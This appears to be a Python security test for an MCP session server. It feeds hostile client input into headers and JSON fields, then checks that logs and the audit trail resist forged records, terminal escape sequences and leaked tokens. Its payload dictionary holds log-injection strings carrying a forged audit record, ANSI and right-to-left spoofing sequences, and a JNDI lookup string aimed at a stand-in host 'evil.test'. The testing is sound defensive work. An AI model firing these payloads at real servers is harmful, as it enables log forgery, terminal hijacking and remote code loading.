"""T22: what a client sends writes lines into the log, moves a terminal's cursor, fills the disk (R71, R6; E4, E34)."""

import json
import sys
from pathlib import Path

import anyio

from attacks.world import Target, raw_post, target
from e2e.mcp_world import call, initialize, request
from stores.stores import Place

FORGED = '{"fact":"opened","at":1.0,"kind":"mcp","mark":"FORGED00","owner":"root"}'
NASTY = {
    "CRLF": f"\r\n{FORGED}\r\n",
    "LF in JSON": f'"}}\n{FORGED}',
    "ANSI": "\x1b[2J\x1b]0;owned\x07",
    "C1": "\x9b31m\x85\x9d0;owned\x9c",
    "RTL": "\u202egpj.exe\u2066\u200f",
    "line separators": f"\u2028{FORGED}\u2029",
    "NUL and DEL": "\x00\x7f\x08\x08",
    "tags": "\U000e0041\ufeff\ufff9",
    "format": "%s%n{0}${jndi:ldap://evil.test/a}",
    "64 kB": "A" * 60_000,
}


def as_header(text: str) -> str:
    """Return what a client can put into a header: bytes, none of which ends a line."""
    return text.encode().decode("latin-1").replace("\r", " ").replace("\n", " ").replace("\0", " ")


async def attack(attacked: Target) -> int:
    """Send everything everywhere; return how many requests name a session that is none."""
    named = await attacked.session()
    for text in NASTY.values():
        shown = as_header(text)
        client = {"name": text, "version": text, "title": text}
        opened = await attacked.post(
            initialize() | {"params": {"protocolVersion": text, "capabilities": {}, "clientInfo": client}}
        )
        assert opened.status_code == 200, opened.text[:200]
        for line in (
            f"X-Session-ID: {shown}",
            f"User-Agent: {shown}",
            f"X-Forwarded-For: {shown}",
            f"Last-Event-ID: {shown}",
        ):
            extra = [] if line.startswith("X-Session") else ["X-Session-ID: " + "B" * 43]
            await attacked.raw(raw_post(request("ping"), line, *extra, "Connection: close"))
        for body in (
            call("echo", text=text),
            call(text[:50]),
            request(text[:50] or "x"),
            request("ping") | {"id": text},
        ):
            assert (await attacked.post(body, **named)).status_code < 500
    return 4 * len(NASTY)


async def test_every_event_is_one_line_of_one_record_that_shows_no_control(sqlite: Place, tmp_path: Path) -> None:
    # R71, E34
    settings = {"TRUSTED_PROXIES": '["127.0.0.0/8"]', "SESSION_DEBUG": "true"}
    async with target(sqlite, tmp_path, settings=settings) as attacked:
        bad = await attack(attacked)
        await attacked.post(request("ping"), x_session_id="C" * 43)
        trail = (attacked.folder / "audit.jsonl").read_bytes()
        log = attacked.log().decode()
        assert len(attacked.told("unknown_id")) == bad - refused_by_the_parser() + 1
        for line in trail.decode().split("\n")[:-1]:
            assert line.isprintable()
            assert len(line) < 1_000
            assert json.loads(line)["mark"] != "FORGED00"
        for line in log.split("\n")[:-1]:
            assert line.isprintable(), line[:200]
            assert line.startswith(
                ("DEBUG holdfast", "INFO holdfast", "WARNING holdfast", "WARNING uvicorn.error ", "INFO ")
            )
        facts = [line for line in log.split("\n") if " holdfast.events " in line]
        assert len([line for line in facts if '"unknown_id"' in line]) == len(attacked.told("unknown_id"))
        assert len(facts) < 12 * len(NASTY)
        await printed(attacked)


async def printed(attacked: Target) -> None:
    """Judge what commands print of these clients: it obeys no terminal, and a line is a session."""
    ids = [record.hex for record in await attacked.records()]
    env = {"PATH": "/usr/bin:/bin", "HOME": str(attacked.folder), "PYTHONUTF8": "1"}
    env |= {"HOLDFAST_NAMESPACE": attacked.place.namespace}
    for words in (["list", "--tree"], ["list", "--json"], ["show", ids[0]]):
        command = [sys.executable, "-m", "holdfast", "sessions", *words, "--store", attacked.place.url]
        done = await anyio.run_process(command, env=env)
        text = done.stdout.decode()
        assert all(line.isprintable() for line in text.split("\n")), words
        if words == ["list", "--json"]:
            assert len(text.split("\n")[:-1]) == len(ids)


def refused_by_the_parser() -> int:
    """Return of how many of these requests no head can be made: they hold bytes that no header may."""
    return 4 * sum(
        any((byte < 32 and byte != 9) or byte == 127 for byte in as_header(text).encode("latin-1"))
        for text in NASTY.values()
    )


async def test_no_id_or_token_is_in_any_log(sqlite: Place, tmp_path: Path) -> None:  # R6, E4
    async with target(sqlite, tmp_path, settings={"SESSION_DEBUG": "true"}, dialect="fast-mcp") as attacked:
        named = await attacked.session(authorization="Bearer ann.top-secret-token")
        for _ in range(3):
            await attacked.post(call("echo", text="a"), query=f"?session_id={named['mcp_session_id']}", **named)
        await attacked.post(
            request("ping"), mcp_session_id=named["mcp_session_id"], authorization="Bearer bob.other-secret"
        )
        kept = attacked.log() + (attacked.folder / "audit.jsonl").read_bytes()
        assert named["mcp_session_id"][:8].encode() in kept
        for secret in (named["mcp_session_id"][8:], "top-secret-token", "other-secret", attacked.key):
            assert secret.encode() not in kept
